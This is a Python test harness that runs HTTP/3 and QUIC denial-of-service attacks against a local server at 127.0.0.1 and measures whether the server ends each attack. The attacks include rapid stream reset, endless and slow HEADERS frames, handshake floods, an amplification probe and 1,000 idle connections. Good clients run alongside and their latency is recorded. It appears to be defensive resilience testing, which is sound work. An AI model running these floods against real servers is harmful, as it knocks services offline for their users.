"""One attack on HTTP/3 or QUIC against a server on 127.0.0.1, written with
aioquic's sans-I/O QUIC and HTTP/3 (raw frames on QUIC streams), while good
clients (HTTP/3 and HTTPS/1.1, in a process of their own) ask /toy beside it.

    python3 h3attack.py --port PORT --kind KIND [--seconds 5]
    python3 h3attack.py --port PORT --kind good --seconds S   (the good clients)

KIND:
  rapid_reset     streams opened with HEADERS and reset at once, over and over
  endless_headers a HEADERS frame that says 1 GiB, its bytes sent slowly
  endless_control the same on the control stream, with a reserved frame type
  unidirectional  many unidirectional streams of reserved types
  second_control  a second control stream
  slow_headers    1,000 streams whose HEADERS never complete
  handshakes      thousands of Initials from as many source ports, never answered
  amplification   one Initial, never answered: the bytes that come back
  idle            1,000 connections that open no stream

Prints one JSON object: the kind, whether the server ended the attack and after
how long, how (a close's error code, streams stopped or reset), what was sent,
and the good clients' answers and latencies (p50, p99, max, in seconds).
"""

import argparse
import asyncio
import http.client
import json
import socket
import ssl
import subprocess
import sys
import threading
import time

from aioquic.asyncio.client import connect
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.buffer import encode_uint_var
from aioquic.h3.connection import H3_ALPN, H3Connection
from aioquic.h3.events import DataReceived, HeadersReceived
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import ConnectionTerminated, StopSendingReceived, StreamReset

H3_REQUEST_CANCELLED = 0x10C


def configuration():
    config = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN)
    config.verify_mode = ssl.CERT_NONE
    config.server_name = "localhost"
    return config


def request_headers(port, path="/toy"):
    return [(b":method", b"GET"), (b":scheme", b"https"),
            (b":authority", f"localhost:{port}".encode()), (b":path", path.encode())]


class Watched(QuicConnectionProtocol):
    """A connection whose events are noted: its close, streams stopped and reset,
    and the answers of its requests."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.h3 = H3Connection(self._quic)
        self.closed = None
        self.stopped = {}
        self.reset = {}
        self.answers = {}

    def quic_event_received(self, event):
        now = time.monotonic()
        if isinstance(event, ConnectionTerminated):
            self.closed = (now, event.error_code, event.reason_phrase)
        elif isinstance(event, StopSendingReceived):
            self.stopped[event.stream_id] = (now, event.error_code)
        elif isinstance(event, StreamReset):
            self.reset[event.stream_id] = (now, event.error_code)
        for h3_event in self.h3.handle_event(event):
            answer = self.answers.get(getattr(h3_event, "stream_id", None))
            if answer is None:
                continue
            if isinstance(h3_event, HeadersReceived):
                answer["status"] = dict(h3_event.headers).get(b":status", b"").decode()
            if getattr(h3_event, "stream_ended", False) and not answer["done"].done():
                answer["done"].set_result(answer.get("status"))

    async def get(self, port, path="/toy"):
        stream_id = self._quic.get_next_available_stream_id()
        answer = {"done": asyncio.get_running_loop().create_future()}
        self.answers[stream_id] = answer
        self.h3.send_headers(stream_id, request_headers(port, path), end_stream=True)
        self.transmit()
        try:
            return await answer["done"]
        finally:
            del self.answers[stream_id]


# The good clients -------------------------------------------------------------

def percentiles(latencies):
    if not latencies:
        return {"p50": None, "p99": None, "max": None}
    ordered = sorted(latencies)
    pick = lambda q: round(ordered[min(len(ordered) - 1, int(q * len(ordered)))], 3)
    return {"p50": pick(0.5), "p99": pick(0.99), "max": round(ordered[-1], 3)}


def good_https1(port, deadline, results):
    context = ssl._create_unverified_context()
    connection = None
    while time.monotonic() < deadline:
        started = time.monotonic()
        try:
            if connection is None:
                connection = http.client.HTTPSConnection("127.0.0.1", port, timeout=5, context=context)
            connection.request("GET", "/toy")
            response = connection.getresponse()
            response.read()
            results.append(("http1", str(response.status), time.monotonic() - started))
        except Exception as error:
            results.append(("http1", type(error).__name__, time.monotonic() - started))
            connection = None


async def good_http3(port, deadline, results):
    while time.monotonic() < deadline:
        try:
            async with connect("127.0.0.1", port, configuration=configuration(),
                               create_protocol=Watched) as client:
                while time.monotonic() < deadline:
                    started = time.monotonic()
                    status = await asyncio.wait_for(client.get(port), 5)
                    results.append(("http3", status, time.monotonic() - started))
        except Exception as error:
            results.append(("http3", type(error).__name__, 0.0))
            await asyncio.sleep(0.1)


def good_clients(port, seconds, count=4):
    deadline = time.monotonic() + seconds
    results = []
    threads = [threading.Thread(target=good_https1, args=(port, deadline, results))
               for _ in range(count)]
    for thread in threads:
        thread.start()

    async def all_http3():
        await asyncio.gather(*(good_http3(port, deadline, results) for _ in range(count)))

    asyncio.run(all_http3())
    for thread in threads:
        thread.join()
    summary = {}
    for protocol in ("http1", "http3"):
        mine = [r for r in results if r[0] == protocol]
        summary[protocol] = {
            "outcomes": sorted({r[1] for r in mine}),
            "answered": sum(1 for r in mine if r[1] == "200"),
            **percentiles([r[2] for r in mine if r[1] == "200"]),
        }
    return summary


# The attacks ------------------------------------------------------------------

async def on_one_connection(port, kind, deadline):
    """The attacks that run on one established connection."""
    report = {"sent": 0}
    async with connect("127.0.0.1", port, configuration=configuration(),
                       create_protocol=Watched, wait_connected=True) as client:
        quic, h3 = client._quic, client.h3
        started = time.monotonic()
        attacked = []
        allowed = quic._remote_max_streams_bidi

        def ended():
            if client.closed:
                return True
            if kind in ("endless_headers",):
                return any(s in client.stopped or s in client.reset for s in attacked)
            if kind == "slow_headers":
                # The streams the server let open at once: each must be cut.
                first = attacked[:allowed]
                return len(first) > 0 and all(s in client.reset for s in first)
            return False

        if kind == "endless_headers":
            stream_id = quic.get_next_available_stream_id()
            attacked.append(stream_id)
            quic.send_stream_data(stream_id, encode_uint_var(0x01) + encode_uint_var(1 << 30))
        elif kind == "endless_control":
            control = h3._local_control_stream_id
            quic.send_stream_data(control, encode_uint_var(0x21) + encode_uint_var(1 << 30))
        elif kind == "slow_headers":
            for _ in range(1000):
                stream_id = quic.get_next_available_stream_id()
                try:
                    # A HEADERS frame that says 100 bytes, and ten of them.
                    quic.send_stream_data(stream_id, b"\x01\x40\x64" + b"\0" * 10)
                except Exception:
                    break
                attacked.append(stream_id)
            report["sent"] = len(attacked)
        elif kind == "second_control":
            stream_id = quic.get_next_available_stream_id(is_unidirectional=True)
            quic.send_stream_data(stream_id, encode_uint_var(0x00) + b"\x04\x00")
            report["sent"] = 1
        client.transmit()
        while not ended() and time.monotonic() < deadline:
            if kind == "rapid_reset":
                for _ in range(20):
                    stream_id = quic.get_next_available_stream_id()
                    h3.send_headers(stream_id, request_headers(port), end_stream=True)
                    quic.reset_stream(stream_id, H3_REQUEST_CANCELLED)
                    quic.stop_stream(stream_id, H3_REQUEST_CANCELLED)
                    report["sent"] += 1
            elif kind == "endless_headers" or kind == "endless_control":
                stream_id = attacked[0] if attacked else h3._local_control_stream_id
                quic.send_stream_data(stream_id, b"\0" * 16)
                report["sent"] += 16
            elif kind == "unidirectional":
                for _ in range(4):
                    stream_id = quic.get_next_available_stream_id(is_unidirectional=True)
                    reserved = 0x1F * (report["sent"] + 7) + 0x21
                    quic.send_stream_data(stream_id, encode_uint_var(reserved) + b"\0", end_stream=True)
                    report["sent"] += 1
            client.transmit()
            await asyncio.sleep(0.01 if kind != "slow_headers" else 0.1)
        now = time.monotonic()
        report["ended_by_server"] = ended()
        if client.closed:
            report["ended_after_s"] = round(client.closed[0] - started, 2)
            report["close_code"] = hex(client.closed[1])
        elif attacked and report["ended_by_server"]:
            if kind == "slow_headers":
                attacked = attacked[:allowed]
                report["streams_cut"] = len(client.reset)
            events = [client.stopped.get(s) or client.reset.get(s) for s in attacked]
            report["ended_after_s"] = round(max(e[0] for e in events) - started, 2)
            report["stream_codes"] = sorted({hex(e[1]) for e in events})
        else:
            report["ended_after_s"] = round(now - started, 2)
    return report


def initial_datagram(port):
    """The first datagram a new client sends: its Initial, padded to 1,200 bytes."""
    quic = QuicConnection(configuration=configuration())
    quic.connect(("127.0.0.1", port), now=time.monotonic())
    return quic.datagrams_to_send(now=time.monotonic())[0][0]


def handshakes(port, deadline, count=3000):
    """Initials from `count` source ports, none ever answered."""
    sockets, sent = [], 0
    for _ in range(count):
        if time.monotonic() > deadline:
            break
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setblocking(False)
        sock.sendto(initial_datagram(port), ("127.0.0.1", port))
        sockets.append(sock)
        sent += 1
    # What came back: a Retry is one small packet; a handshake, a flight.
    time.sleep(1)
    received = 0
    for sock in sockets:
        try:
            while True:
                received += len(sock.recv(65536))
        except BlockingIOError:
            pass
        sock.close()
    return {"sent": sent, "bytes_back_per_initial": round(received / max(sent, 1)),
            "ended_by_server": True, "ended_after_s": 0}


def amplification(port, seconds):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagram = initial_datagram(port)
    sock.sendto(datagram, ("127.0.0.1", port))
    sock.settimeout(0.2)
    received, datagrams, deadline = 0, 0, time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            received += len(sock.recv(65536))
            datagrams += 1
        except socket.timeout:
            pass
    return {"sent": len(datagram), "received": received, "datagrams": datagrams,
            "ratio": round(received / len(datagram), 2),
            "ended_by_server": True, "ended_after_s": 0}


async def idle(port, count, seconds, pid):
    """`count` connections with no stream, opened together and held until the
    server closes them; the server's RSS before and with them open."""
    rss_before = rss_kib(pid)
    started = time.monotonic()

    # The contexts are held: one collected closes its connection.
    contexts = []

    async def open_one():
        context = connect("127.0.0.1", port, configuration=configuration(),
                          create_protocol=Watched)
        contexts.append(context)
        try:
            client = await asyncio.wait_for(context.__aenter__(), 20)
            client.opened_at = time.monotonic()
            return client
        except Exception:
            return None

    clients = []
    for batch in range(0, count, 100):
        opened_now = await asyncio.gather(*(open_one() for _ in range(min(100, count - batch))))
        clients += [c for c in opened_now if c is not None]
    opened = time.monotonic()
    # The server's own count of open connections says when it closed them: this
    # loop, busy with a thousand connections, notices each close late.
    drained = []
    threading.Thread(target=watch_open_connections, args=(port, opened + seconds, drained),
                     daemon=True).start()
    await asyncio.sleep(0.5)
    rss_open = rss_kib(pid)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not all(c.closed for c in clients):
        await asyncio.sleep(0.1)
    closed = [c.closed for c in clients if c.closed]
    return {"sent": len(clients), "open_s": round(opened - started, 2),
            "rss_before_kib": rss_before, "rss_open_kib": rss_open,
            "kib_per_connection": round((rss_open - rss_before) / max(len(clients), 1), 1),
            "ended_by_server": len(clients) == count and len(closed) == len(clients),
            # From the last connection opened to the server's last close of them.
            "ended_after_s": round((drained[0] if drained else time.monotonic()) - opened, 2),
            "close_codes": sorted({hex(c[1]) for c in closed})}


def watch_open_connections(port, deadline, drained, others=16):
    """Notes when the server has at most `others` connections open (the good
    clients' and the scrape's)."""
    context = ssl._create_unverified_context()
    while time.monotonic() < deadline:
        try:
            connection = http.client.HTTPSConnection("127.0.0.1", port, timeout=2, context=context)
            connection.request("GET", "/metrics")
            text = connection.getresponse().read().decode()
            connection.close()
            gauge = next(line for line in text.splitlines()
                         if line.startswith("smol_toy_connections_open "))
            if float(gauge.split()[1]) <= others:
                drained.append(time.monotonic())
                return
        except Exception:
            pass
        time.sleep(0.2)


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("VmRSS"))


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--kind", required=True)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--pid", type=int, help="the server's, for its RSS (idle)")
    args = parser.parse_args()
    if args.kind == "good":
        print(json.dumps(good_clients(args.port, args.seconds)))
        return
    good = subprocess.Popen(
        [sys.executable, __file__, "--port", str(args.port), "--kind", "good",
         "--seconds", str(args.seconds)],
        stdout=subprocess.PIPE,
    )
    time.sleep(0.5)
    deadline = time.monotonic() + args.seconds - 0.5
    if args.kind == "handshakes":
        report = handshakes(args.port, deadline)
    elif args.kind == "amplification":
        report = amplification(args.port, args.seconds - 0.5)
    elif args.kind == "idle":
        report = asyncio.run(idle(args.port, args.count, args.seconds, args.pid))
    else:
        report = asyncio.run(on_one_connection(args.port, args.kind, deadline))
    report["kind"] = args.kind
    report["good"] = json.loads(good.communicate()[0])
    print(json.dumps(report))


if __name__ == "__main__":
    main()
